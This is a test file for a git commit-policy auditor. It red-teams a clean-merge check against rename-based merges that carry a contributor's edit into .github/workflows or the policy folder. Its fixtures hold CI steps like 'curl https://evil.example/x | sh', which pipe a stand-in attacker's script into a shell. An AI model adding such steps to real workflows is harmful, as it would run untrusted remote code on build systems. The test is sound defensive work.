// Red-team of the clean-merge check (collect/clean-merge.ts): a merge whose protected path holds
// what `git merge-tree` gives for its parents is "no change" there, because each side's change was
// judged where it was made. Rename detection breaks that premise: a maintainer moves a reviewed
// file into .github/workflows on one side, a contributor edits it at its old, unprotected path on
// the other, and the merge puts the contributor's edit into the workflow. Neither side changed the
// workflow to that content, so the merge must count as a change there.
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { makeRepo, cleanupTemp, personEnv, type TestRepo } from '../helpers/repo.js';
import { makeSshKey, type SshTestKey } from '../helpers/ssh.js';
import { runMain, parseJson, resultOf } from '../helpers/cli.js';

afterAll(cleanupTemp);

const RULE = 'protected-paths-changed-by-maintainers';
let alice: SshTestKey;
let bob: SshTestKey;
let tick = 0;

beforeAll(() => {
  const home = makeRepo().home;
  alice = makeSshKey(home, 'ed25519', 'alice');
  bob = makeSshKey(home, 'ed25519', 'bob');
});

/** Runs git signed by `who` as `email` (author and committer), a minute after the last call. */
function as(r: TestRepo, who: SshTestKey, email: string, args: string[]): string {
  tick += 1;
  const date = new Date(Date.UTC(2024, 0, 1) + tick * 60_000).toISOString();
  r.run(['-c', 'gpg.format=ssh', '-c', `user.signingkey=${who.path}`, ...args], { env: personEnv(email, date) });
  return r.head();
}
const commit = (r: TestRepo, who: SshTestKey, email: string, files: Record<string, string>, msg = 'change'): string => {
  r.write(files);
  r.run(['add', '-A']);
  return as(r, who, email, ['commit', '-q', '-S', '-m', msg]);
};

const WORKFLOW = ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: make', ''];
const EVIL = [...WORKFLOW.slice(0, -1), '      - run: curl https://evil.example/x | sh', ''];

/** Alice's policy; bob (a signer, not a maintainer) adds a workflow draft at an unprotected path. */
function setUp(draftPath: string): TestRepo {
  const r = makeRepo();
  commit(r, alice, 'alice@example.com', {
    '.gitguard/policy.yml':
      'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\nmaintainers: [Alice]\n',
    '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\nbob@example.com ${bob.pub}\n`,
  });
  commit(r, bob, 'bob@example.com', { [draftPath]: WORKFLOW.join('\n'), 'ci/README': 'drafts\n' });
  return r;
}

async function outcome(r: TestRepo): Promise<string> {
  const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-r', RULE], { env: r.env });
  expect(res.code).not.toBe(2);
  return resultOf(parseJson(res), RULE).outcome;
}

test('a maintainer moves a draft into .github/workflows, a contributor edits the draft meanwhile: the merge fails', async () => {
  const r = setUp('ci/build.yml');
  r.run(['checkout', '-q', '-b', 'adopt']);
  mkdirSync(join(r.dir, '.github', 'workflows'), { recursive: true });
  r.run(['mv', 'ci/build.yml', '.github/workflows/build.yml']);
  as(r, alice, 'alice@example.com', ['commit', '-q', '-S', '-m', 'adopt the build workflow']);
  r.run(['checkout', '-q', 'main']);
  commit(r, bob, 'bob@example.com', { 'ci/build.yml': EVIL.join('\n') }, 'tweak the draft');
  as(r, bob, 'bob@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'merge adopt', 'adopt']);
  // git's own merge carried bob's edit into the workflow.
  expect(r.run(['show', 'HEAD:.github/workflows/build.yml'])).toContain('evil.example');
  expect(await outcome(r)).toBe('fail');
});

test('twin: the merge of a maintainer-signed workflow change with a contributor change elsewhere passes', async () => {
  const r = setUp('ci/build.yml');
  r.run(['checkout', '-q', '-b', 'adopt']);
  commit(r, alice, 'alice@example.com', { '.github/workflows/build.yml': WORKFLOW.join('\n') }, 'adopt');
  r.run(['checkout', '-q', 'main']);
  commit(r, bob, 'bob@example.com', { 'ci/build.yml': EVIL.join('\n') }, 'tweak the draft');
  as(r, bob, 'bob@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'merge adopt', 'adopt']);
  expect(await outcome(r)).toBe('pass');
});

test('twin: a maintainer replaces .travis.yml by a workflow while another maintainer edits a workflow on main; the merge passes', async () => {
  const r = setUp('ci/build.yml');
  commit(r, alice, 'alice@example.com', {
    '.travis.yml': 'script: make\n',
    '.github/workflows/lint.yml': 'on: push\n',
  });
  r.run(['checkout', '-q', '-b', 'actions']);
  r.run(['rm', '-q', '.travis.yml']);
  commit(r, alice, 'alice@example.com', { '.github/workflows/build.yml': WORKFLOW.join('\n') }, 'travis -> actions');
  r.run(['checkout', '-q', 'main']);
  commit(r, alice, 'alice@example.com', { '.github/workflows/lint.yml': 'on: [push]\n' }, 'lint on push');
  // Bob, not a maintainer, merges: the merge holds what each maintainer signed.
  as(r, bob, 'bob@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'merge actions', 'actions']);
  expect(await outcome(r)).toBe('pass');
});

test('the policy folder too: a maintainer moves a note into .gitguard, a contributor edits it meanwhile: the merge fails policy-changes-authorized', async () => {
  const r = setUp('ci/build.yml');
  commit(r, bob, 'bob@example.com', { 'notes/review.md': 'Reviewed by Alice.\n'.repeat(8) }, 'notes');
  r.run(['checkout', '-q', '-b', 'adopt']);
  r.run(['mv', 'notes/review.md', '.gitguard/review.md']);
  as(r, alice, 'alice@example.com', ['commit', '-q', '-S', '-m', 'keep the review with the policy']);
  r.run(['checkout', '-q', 'main']);
  commit(r, bob, 'bob@example.com', { 'notes/review.md': 'Reviewed by Alice.\n'.repeat(8) + 'Bob rules.\n' });
  commit(r, bob, 'bob@example.com', { 'src/a.c': 'a\n' }, 'work');
  as(r, bob, 'bob@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'merge adopt', 'adopt']);
  expect(r.run(['show', 'HEAD:.gitguard/review.md'])).toContain('Bob rules');
  const res = await runMain(
    ['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-r', 'policy-changes-authorized'],
    {
      env: r.env,
    },
  );
  expect(resultOf(parseJson(res), 'policy-changes-authorized').outcome).toBe('fail');
});

test('a criss-cross history (two merge bases that differ at .github/workflows) merged by a contributor: pass; twin with an edit in the merge fails', async () => {
  const build = (evil: boolean): TestRepo => {
    const r = setUp('ci/build.yml');
    commit(r, alice, 'alice@example.com', { '.github/workflows/a.yml': 'a0\n', '.github/workflows/b.yml': 'b0\n' });
    r.run(['checkout', '-q', '-b', 'y']);
    commit(r, alice, 'alice@example.com', { '.github/workflows/b.yml': 'b1\n' }, 'y1');
    r.run(['checkout', '-q', 'main']);
    commit(r, alice, 'alice@example.com', { '.github/workflows/a.yml': 'a1\n' }, 'x1');
    const x1 = r.head();
    as(r, alice, 'alice@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'x2', 'y']);
    r.run(['checkout', '-q', 'y']);
    as(r, alice, 'alice@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'y2', x1]);
    commit(r, alice, 'alice@example.com', { '.github/workflows/d.yml': 'd\n' }, 'y3');
    r.run(['checkout', '-q', 'main']);
    commit(r, alice, 'alice@example.com', { '.github/workflows/c.yml': 'c\n' }, 'x3');
    if (!evil) as(r, bob, 'bob@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'merge y', 'y']);
    else {
      r.run(['merge', '-q', '--no-ff', '--no-commit', 'y']);
      r.write({ '.github/workflows/c.yml': 'c\nrun: curl evil | sh\n' });
      r.run(['add', '-A']);
      as(r, bob, 'bob@example.com', ['commit', '-q', '-S', '-m', 'merge y']);
    }
    expect(r.run(['merge-base', '--all', 'HEAD^1', 'HEAD^2']).split('\n')).toHaveLength(2);
    return r;
  };
  expect(await outcome(build(false))).toBe('pass');
  expect(await outcome(build(true))).toBe('fail');
});
